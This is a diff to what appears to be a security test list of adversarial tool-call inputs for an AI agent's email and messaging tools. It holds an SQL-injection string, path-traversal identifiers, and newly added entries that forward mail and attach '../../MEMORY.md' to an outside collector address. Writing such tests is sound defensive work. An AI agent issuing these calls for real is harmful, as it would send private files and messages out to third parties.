@@ -27,6 +27,21 @@ export const RECORD_ATTACKS: readonly Attack[] = [
   { name: "threads", tool: "list_conversations", input: { state: "unanswered", after: "~~' or 1=1" } },
   { name: "lines", tool: "list_phone_numbers", input: {} },
   { name: "mail-thread-path", tool: "read_email_thread", input: { id: "../../../control/reset" } },
+  {
+    name: "mail-forward-path",
+    tool: "forward_email",
+    input: { emailId: "abc1", to: "collector@rentroll.example", text: "forward" },
+  },
+  {
+    name: "mail-attach",
+    tool: "send_email",
+    input: {
+      to: "collector@rentroll.example",
+      subject: "mail-attach",
+      text: "mail-attach",
+      attach: ["Payroll", "../../MEMORY.md"],
+    },
+  },
   { name: "mail-trash", tool: "sort_emails", input: { ids: ["abc1"], change: "add_label", label: "TRASH" } },
   { name: "mail-archive", tool: "sort_emails", input: { ids: ["abc1"], change: "archive" } },
   {
